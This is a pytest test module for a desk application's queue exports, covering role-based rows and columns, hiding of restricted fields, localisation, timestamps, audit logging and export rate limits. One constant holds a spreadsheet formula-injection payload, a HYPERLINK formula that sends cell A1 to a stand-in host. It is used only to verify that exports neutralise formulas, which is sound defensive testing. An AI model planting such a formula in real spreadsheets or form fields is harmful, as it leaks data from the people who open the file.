"""Exports of the queue: who gets which columns in which format, and what the log says of it."""

from __future__ import annotations

import csv
import io
import json
import zipfile
from datetime import date, datetime
from typing import BinaryIO

import pytest
from openpyxl import load_workbook

from tests.services.clerks import (
    ADMINISTRATOR,
    AUDITOR,
    CULTURE,
    EVERYBODY,
    HEALTH,
    JUROR,
    LEAD,
    MODERATOR,
    NANJING,
    REVOKED,
    VISITOR,
    WUXI,
)
from tests.services.desk_work import do, everything
from tests.services.guardian import answer
from tests.services.office import Office, Paper
from tests.services.paintings import send
from youcheng.documents.exports import WRITERS
from youcheng.domain.actors import Actor
from youcheng.domain.exports import QUEUE_COLUMNS, Format, Table
from youcheng.domain.form_definitions import VisibilityClass
from youcheng.domain.limits import EXPORT, LimitReached
from youcheng.domain.queue import QueueView
from youcheng.i18n.catalogues import translator
from youcheng.markup.desk_exports import export_words
from youcheng.services import desk_actions as desk
from youcheng.services.desk_access import NotAllowed
from youcheng.services.drafts import StoreFull
from youcheng.services.exporting import export_queue

SHARED = {"consent_share_partner": "agree"}
HOSTILE = '=HYPERLINK("http://example.org/?"&A1,"二胡")'


def take_along(
    office: Office,
    actor: Actor = CULTURE,
    kind: Format = Format.CSV,
    *,
    language: str = "en",
    **asked: object,
) -> bytes:
    file = io.BytesIO()
    export_queue(
        office.services,
        actor=actor,
        view=QueueView(**asked),  # type: ignore[arg-type]
        kind=kind,
        words=export_words(translator(language)),
        write=WRITERS[kind],
        file=file,
    )
    return file.getvalue()


def table_of(content: bytes) -> tuple[list[str], list[dict[str, str]]]:
    """Headings and rows by id, as a spreadsheet reads the file."""
    heads, ids, *rows = csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""))
    return heads, [dict(zip(ids, row, strict=True)) for row in rows]


def refer(paper: Paper, city: str) -> None:
    do(paper, desk.take, CULTURE)
    do(paper, desk.start_review, CULTURE)
    do(paper, desk.refer, CULTURE, city=city)


def classes(office: Office, programme: str) -> dict[str, set[VisibilityClass]]:
    form = office.services.content.form(programme)
    return {one.id: {*one.rules.visibility} for one in form.fields}


@pytest.fixture
def house(office: Office) -> dict[str, Paper]:
    """Submissions of two programmes, one referred to Nanjing, and a painting."""
    referred = office.send(changes={**SHARED, "title": HOSTILE})
    refer(referred, "nanjing")
    painting = send(office)
    answer(painting)
    return {
        "referred": referred,
        "culture": office.send(changes={"title": "Zeile 1, «二胡» и नेपाल"}),
        "health": office.send("health"),
        "painting": painting,
    }


REACHED = {
    "officer of culture": {"referred", "culture"},
    "officer of health": {"health"},
    "moderator": {"painting"},
    "liaison of Nanjing": {"referred"},
    "liaison of Wuxi": set(),
    "lead": {"referred", "culture", "health", "painting"},
}


def test_every_role_gets_its_own_rows_in_every_format_and_others_get_nothing(
    office: Office, house: dict[str, Paper]
) -> None:
    for who, actor in EVERYBODY.items():
        for kind in Format:
            if who not in REACHED:
                with pytest.raises(NotAllowed):
                    take_along(office, actor, kind)
                continue
            content = take_along(office, actor, kind)
            codes = {str(house[name].stored.code) for name in REACHED[who]}
            assert set(_codes(content, kind)) == codes, (who, kind)
        office.wait(hours=1)
    office.assert_log_is_whole()


def _codes(content: bytes, kind: Format) -> list[str]:
    if kind is Format.JSON:
        return [row["code"] for row in json.loads(content)["rows"]]
    if kind is Format.XLSX:
        sheet = load_workbook(io.BytesIO(content)).active
        assert sheet is not None
        return [str(row[0]) for row in sheet.iter_rows(min_row=3, values_only=True)]
    if kind is Format.ZIP:
        content = zipfile.ZipFile(io.BytesIO(content)).read("submissions.csv")
    return [row["code"] for row in table_of(content)[1]]


def test_nothing_restricted_is_in_any_file_of_anybody(
    office: Office, house: dict[str, Paper]
) -> None:
    for actor in (CULTURE, HEALTH, MODERATOR, NANJING, LEAD):
        for kind in (Format.CSV, Format.JSON, Format.ZIP):
            content = take_along(office, actor, kind)
            if kind is Format.ZIP:
                content = zipfile.ZipFile(io.BytesIO(content)).read("submissions.csv")
            text = content.decode("utf-8-sig")
            for paper in house.values():
                secret = classes(office, paper.stored.programme)
                for name, value in (paper.stored.sent or {}).items():
                    if VisibilityClass.RESTR in secret[name] and len(str(value)) > 7:
                        assert str(value) not in text, (actor.id, kind, name)
        office.wait(hours=1)


def test_columns_are_those_that_the_role_reads(office: Office, house: dict[str, Paper]) -> None:
    fields = classes(office, "culture")
    staff = {name for name, found in fields.items() if VisibilityClass.STAFF in found}
    system = {name for name, found in fields.items() if found == {VisibilityClass.SYS}}
    officer = {*table_of(take_along(office, CULTURE))[1][0]}
    assert staff <= officer
    assert {*QUEUE_COLUMNS} <= officer
    assert officer & system
    liaison = {*table_of(take_along(office, NANJING))[1][0]}
    assert staff <= liaison
    assert not liaison & {*system, "assignee", "tags", "flags"}
    assert not any("guardian" in name for name in liaison)


def test_a_cell_that_is_not_readable_in_its_row_is_empty(
    office: Office, house: dict[str, Paper]
) -> None:
    both = Actor(
        "x1", roles=CULTURE.roles | NANJING.roles, programmes=frozenset({"health"}), city="nanjing"
    )
    do(house["health"], desk.add_note, HEALTH, text="Seen.")
    rows = {row["code"]: row for row in table_of(take_along(office, both))[1]}
    theirs = rows[str(house["health"].stored.code)]
    referred = rows[str(house["referred"].stored.code)]
    name = next(
        one
        for one, found in classes(office, "culture").items()
        if found == {VisibilityClass.SYS} and one in theirs and theirs[one]
    )
    assert (house["referred"].stored.sent or {})[name]
    assert referred[name] == ""
    assert referred["assignee"] == ""


def test_texts_of_every_script_arrive_and_no_formula_runs(
    office: Office, house: dict[str, Paper]
) -> None:
    rows = {row["code"]: row for row in table_of(take_along(office))[1]}
    assert rows[str(house["culture"].stored.code)]["title"] == "Zeile 1, «二胡» и नेपाल"
    assert rows[str(house["referred"].stored.code)]["title"] == f"'{HOSTILE}"
    book = load_workbook(io.BytesIO(take_along(office, kind=Format.XLSX)))
    sheet = book.active
    assert sheet is not None
    cells = {cell.value: cell.data_type for row in sheet.iter_rows() for cell in row}
    assert cells[HOSTILE] in {"s", "inlineStr"}
    assert "f" not in cells.values()
    told = json.loads(take_along(office, kind=Format.JSON))["rows"]
    assert HOSTILE in {row["title"] for row in told}


def test_times_name_their_zone_in_csv_and_are_real_ones_in_xlsx(office: Office) -> None:
    paper = office.send()
    sent = paper.stored.sent_at
    assert sent is not None
    (row,) = table_of(take_along(office))[1]
    assert datetime.fromisoformat(row["sent_at"]) == sent.replace(microsecond=0)
    assert row["sent_at"].endswith("+08:00")
    sheet = load_workbook(io.BytesIO(take_along(office, kind=Format.XLSX))).active
    assert sheet is not None
    ids = [cell.value for cell in sheet[2]]
    value = sheet.cell(3, ids.index("sent_at") + 1).value
    assert isinstance(value, datetime)
    assert value.isoformat(timespec="minutes") == row["sent_at"][:16]


def test_heads_and_choices_are_in_the_language_of_the_reader(office: Office) -> None:
    paper = office.send()
    form = office.services.content.form("culture")
    heads, (row,) = table_of(take_along(office, language="fr"))
    assert form.field("title").label.get("fr") in heads
    chosen = next(
        one
        for one in form.fields
        if one.options
        and isinstance(row.get(one.id), str)
        and isinstance((paper.stored.sent or {}).get(one.id), str)
    )
    value = str((paper.stored.sent or {})[chosen.id])
    assert row[chosen.id] == chosen.name(value, "fr")
    (told,) = json.loads(take_along(office, kind=Format.JSON))["rows"]
    assert told[chosen.id] == value


def test_a_view_is_exported_as_it_is_filtered_and_ordered(
    office: Office, house: dict[str, Paper]
) -> None:
    title = table_of(take_along(office, LEAD, query="二胡"))[1]
    assert [row["code"] for row in title] == [
        str(house[name].stored.code) for name in ("referred", "culture")
    ]
    assert table_of(take_along(office, LEAD, programme="health"))[1][0]["code"] == str(
        house["health"].stored.code
    )


def test_an_export_is_in_the_log_without_a_value_of_it(
    office: Office, house: dict[str, Paper]
) -> None:
    take_along(office, LEAD, Format.XLSX, programme="culture", query="二胡")
    (event,) = office.events("queue.exported")
    assert (event.actor, event.via) == (f"staff:{LEAD.id}", "desk")
    assert dict(event.details) == {
        "count": "2",
        "filters": "programme,q",
        "format": "xlsx",
        "programmes": "culture",
    }
    assert {"code", "title"} <= {*event.fields}
    assert "二胡" not in repr(event)
    office.assert_log_is_whole()


def test_whoever_fails_to_write_it_leaves_no_trace_of_an_export(office: Office) -> None:
    office.send()

    def fail(file: BinaryIO, table: Table) -> None:
        next(table.rows)
        raise OSError("no room")

    with pytest.raises(OSError, match="no room"):
        export_queue(
            office.services,
            actor=CULTURE,
            view=QueueView(),
            kind=Format.CSV,
            words=export_words(translator("en")),
            write=fail,
            file=io.BytesIO(),
        )
    assert not office.events("queue.exported")
    office.disk_full = True
    with pytest.raises(StoreFull):
        take_along(office)


def test_an_account_exports_so_often_in_an_hour(office: Office) -> None:
    for _ in range(EXPORT.times):
        take_along(office)
    with pytest.raises(LimitReached):
        take_along(office)
    take_along(office, HEALTH)
    office.wait(hours=1)
    take_along(office)


def test_an_export_changes_nothing_but_the_log_and_the_count(office: Office) -> None:
    office.send()
    before = everything(office)
    take_along(office)
    after = everything(office)
    changed = {name for name, rows in after.items() if rows != before[name]}
    assert changed == {"count_window", "event", "log_head"}


def test_pictures_come_as_copies_with_a_list_that_names_them(office: Office) -> None:
    first, second = send(office, seed=1), send(office, seed=2)
    for paper in (first, second):
        answer(paper)
    packed = zipfile.ZipFile(io.BytesIO(take_along(office, MODERATOR, Format.ZIP)))
    rows = {row["code"]: row for row in table_of(packed.read("submissions.csv"))[1]}
    copies = {}
    for paper in (first, second):
        code = str(paper.stored.code)
        assert rows[code]["picture_file"] == f"pictures/{code}.jpg"
        copies[code] = next(one for one in paper.attachments if one.name == "1280.jpg")
        stored = b"".join(office.services.files.read(copies[code].key))
        assert packed.read(rows[code]["picture_file"]) == stored
    sent = {one.bytes for one in first.attachments if not one.derived_from}
    assert not sent & {one.file_size for one in packed.infolist()}
    office.services.files.delete(copies[str(second.stored.code)].key)
    packed = zipfile.ZipFile(io.BytesIO(take_along(office, MODERATOR, Format.ZIP)))
    assert packed.namelist() == ["submissions.csv", f"pictures/{first.stored.code}.jpg"]


def test_days_are_days_in_a_spreadsheet(office: Office) -> None:
    for programme in ("culture", "health", "sports", "study", "talent", "friendship"):
        paper = office.send(programme)
        if paper.stored.sent is None:
            answer(paper)
    sheet = load_workbook(io.BytesIO(take_along(office, LEAD, Format.XLSX))).active
    assert sheet is not None
    found = [
        cell
        for row in sheet.iter_rows(min_row=3)
        for cell in row
        if cell.number_format == "yyyy-mm-dd"
    ]
    assert found
    assert all(isinstance(cell.value, datetime | date) for cell in found)


def test_nobody_without_work_in_the_desk_exports(office: Office) -> None:
    for actor in (AUDITOR, ADMINISTRATOR, JUROR, VISITOR, REVOKED):
        with pytest.raises(NotAllowed):
            take_along(office, actor)
    assert table_of(take_along(office, WUXI)) == (
        [
            "Reference code",
            "Programme",
            "Kind",
            "State",
            "Sent (Nanjing time)",
            "Waiting since (Nanjing time)",
            "To be answered by (Nanjing time)",
        ],
        [],
    )
    assert not [one for one in office.events("queue.exported") if one.actor != f"staff:{WUXI.id}"]
